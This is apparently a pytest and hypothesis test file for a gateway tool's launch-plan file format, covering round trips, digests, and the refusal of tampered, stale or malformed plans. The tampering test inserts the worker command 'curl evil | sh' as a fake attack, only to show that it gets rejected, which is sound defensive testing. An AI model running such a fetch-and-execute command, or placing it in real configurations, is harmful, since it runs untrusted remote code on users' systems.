"""The plan wire format on its own: round trip, canonical bytes, refusals.

Plans here are generated (hypothesis), not compiled, so every corner of the
format is exercised, including ones no config produces today.
"""

from __future__ import annotations

import hashlib
import json

import jsonschema
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from gatewayctl.compile import planfile
from gatewayctl.compile.plan import (
    ACCOUNT_SOURCES,
    FORMAT_VERSION,
    HANDLER_KINDS,
    MODES,
    PORT_SOURCES,
    RESTART_POLICIES,
    Control,
    Handler,
    Lane,
    LaunchPlan,
    RestartPolicy,
    SecretRef,
    freeze,
)
from gatewayctl.compile.planfile import PlanError

from tests.test_plan_support import plan_validator
from tests.support import examples

_text = st.text(st.characters(blacklist_categories=("Cs",)), max_size=12)
_name = st.from_regex(r"[A-Z_][A-Z0-9_]{0,10}", fullmatch=True)
_json_scalar = st.one_of(st.none(), st.booleans(), st.integers(-(2**40), 2**40), st.floats(allow_nan=False, allow_infinity=False), _text)
_json = st.recursive(
    _json_scalar,
    lambda inner: st.one_of(st.lists(inner, max_size=3), st.dictionaries(_text, inner, max_size=3)),
    max_leaves=8,
)
# The plan schema's bound for every seconds field (one source: the schemas).
_MAX_SECONDS = plan_validator().schema["definitions"]["seconds"]["maximum"]
_seconds = st.floats(min_value=0, max_value=_MAX_SECONDS, allow_nan=False)


@st.composite
def secret_refs(draw):
    kind = draw(st.sampled_from(("env", "file", "exec", "inline")))
    field = draw(st.from_regex(r"[a-z][a-z_]{0,12}", fullmatch=True))
    if kind == "env":
        ref = draw(_name)
    elif kind == "file":
        ref = draw(st.text(min_size=1, max_size=20))
    elif kind == "exec":
        ref = tuple(draw(st.lists(_text, min_size=1, max_size=3)))
    else:
        ref = "/" + draw(st.from_regex(r"[a-z_/]{1,20}", fullmatch=True))
    return SecretRef(field, kind, ref)


@st.composite
def lanes(draw):
    secrets = tuple(draw(st.lists(secret_refs(), max_size=4)))
    return Lane(
        family=draw(st.sampled_from(("feishu", "telegram", "matrix", "wecom", "whatsapp", "qqbot"))),
        alias=draw(st.one_of(st.none(), _text)),
        account_id=draw(st.from_regex(r"[a-z0-9][a-z0-9_-]{0,10}", fullmatch=True)),
        account_label=draw(_text),
        account_source=draw(st.sampled_from(ACCOUNT_SOURCES)),
        settings=freeze(draw(st.dictionaries(_text, _json, max_size=4))),
        secrets=secrets,
        worker=tuple(draw(st.lists(_text, min_size=1, max_size=4))),
        env=tuple(sorted({s.ref for s in secrets if s.kind == "env"})),
    )


@st.composite
def plans(draw):
    mode = draw(st.sampled_from(MODES))
    session = draw(st.from_regex(r"[a-z]{1,8}", fullmatch=True)) if mode != "gateway_headless" else None
    kind = draw(st.one_of(st.none(), st.sampled_from(HANDLER_KINDS)))
    handler = None
    if kind is not None:
        handler = Handler(
            kind,
            exec=tuple(draw(st.lists(_text, min_size=1, max_size=2))) if kind == "exec" else (),
            url="http://127.0.0.1:9000/turn" if kind == "url" else None,
            timeout_s=draw(_seconds),
        )
    return LaunchPlan(
        config_path=draw(st.text(min_size=1, max_size=20)),
        config_sha256=draw(st.from_regex(r"[0-9a-f]{64}", fullmatch=True)),
        mode=mode,
        session=session,
        control=Control("127.0.0.1", draw(st.integers(0, 65535)), draw(st.sampled_from(PORT_SOURCES))),
        lanes=tuple(draw(st.lists(lanes(), min_size=1, max_size=3))),
        restart=RestartPolicy(
            draw(st.sampled_from(RESTART_POLICIES)), draw(st.integers(0, 100)), draw(_seconds), draw(_seconds), draw(_seconds)
        ),
        stop_grace_s=draw(_seconds),
        handler=handler,
        allow_private_hosts=draw(st.booleans()),
        generator_version=draw(st.from_regex(r"[0-9]\.[0-9]{1,2}\.[0-9]", fullmatch=True)),
    )


@settings(max_examples=examples(150), deadline=None)
@given(plans())
def test_round_trip_is_identity_and_bytes_are_canonical(plan):
    data = planfile.dumps(plan)
    back = planfile.loads(data)
    assert back == plan
    assert planfile.dumps(back) == data  # a fixed point: re-dumping changes nothing
    assert data.endswith(b"\n") and not data.endswith(b"\n\n")
    obj = json.loads(data)
    plan_validator().validate(obj)
    # the digest is over the compact canonical encoding of "plan" alone
    compact = json.dumps(obj["plan"], sort_keys=True, ensure_ascii=False, separators=(",", ":")).encode()
    assert obj["plan_sha256"] == hashlib.sha256(compact).hexdigest() == planfile.digest(plan)


def _sample_plan() -> LaunchPlan:
    return LaunchPlan(
        config_path="config.toml",
        config_sha256="0" * 64,
        mode="gateway_headless",
        session=None,
        control=Control(),
        lanes=(
            Lane("telegram", None, "default", "default", "single_account", freeze({"x": [1]}), (SecretRef("bot_token", "env", "T"),), ("w",), ("T",)),
        ),
    )


def test_tampered_content_is_refused():
    obj = json.loads(planfile.dumps(_sample_plan()))
    obj["plan"]["lanes"][0]["worker"] = ["sh", "-c", "curl evil | sh"]
    with pytest.raises(PlanError) as exc:
        planfile.loads(json.dumps(obj), source="p.json")
    assert exc.value.kind == "tampered"
    assert "digest mismatch" in exc.value.message and "p.json" in exc.value.message


@pytest.mark.parametrize("version", [3, 0, "1", True, None, 1.5])
def test_unknown_format_version_is_refused_before_anything_else(version):
    obj = json.loads(planfile.dumps(_sample_plan()))
    obj["format_version"] = version
    obj["plan"] = "garbage: version is checked first"
    with pytest.raises(PlanError) as exc:
        planfile.loads(json.dumps(obj))
    assert exc.value.kind == "version"
    assert f"reads format_version {FORMAT_VERSION}" in exc.value.message


@pytest.mark.parametrize("data", [b"", b"not json", b"[]", b'{"plan": {}}', b'{"format_version": 1}', "\udcff".encode("utf-8", "surrogatepass")])
def test_non_plans_are_malformed_not_crashes(data):
    with pytest.raises(PlanError) as exc:
        planfile.loads(data)
    assert exc.value.kind == "malformed"


def test_well_digested_but_malformed_content_is_refused():
    body = {"generator": {}}
    envelope = {"format_version": 1, "plan": body, "plan_sha256": hashlib.sha256(planfile.canonical_bytes(body)).hexdigest()}
    with pytest.raises(PlanError) as exc:
        planfile.loads(json.dumps(envelope))
    assert exc.value.kind == "malformed"


def test_missing_file_is_unreadable(tmp_path):
    with pytest.raises(PlanError) as exc:
        planfile.load(str(tmp_path / "nope.json"))
    assert exc.value.kind == "unreadable"


def test_load_verified_checks_staleness(tmp_path):
    cfg = tmp_path / "config.toml"
    cfg.write_bytes(b"[telegram]\n")
    plan = _sample_plan()
    from dataclasses import replace

    plan = replace(plan, config_path="config.toml", config_sha256=hashlib.sha256(b"[telegram]\n").hexdigest())
    path = tmp_path / "plan.json"
    planfile.write(plan, str(path))
    assert planfile.load_verified(str(path), base_dir=str(tmp_path)) == plan
    cfg.write_bytes(b"[telegram]\nenabled = true\n")
    with pytest.raises(PlanError) as exc:
        planfile.load_verified(str(path), base_dir=str(tmp_path))
    assert exc.value.kind == "stale"
    assert exc.value.message == "saved plan is stale: config.toml changed since the plan was made"
    assert planfile.load_verified(str(path), base_dir=str(tmp_path), allow_stale=True) == plan


def test_write_is_atomic_and_leaves_no_temp_files(tmp_path):
    path = tmp_path / "plan.json"
    digest = planfile.write(_sample_plan(), str(path))
    assert digest == planfile.digest(_sample_plan())
    assert sorted(p.name for p in tmp_path.iterdir()) == ["plan.json"]
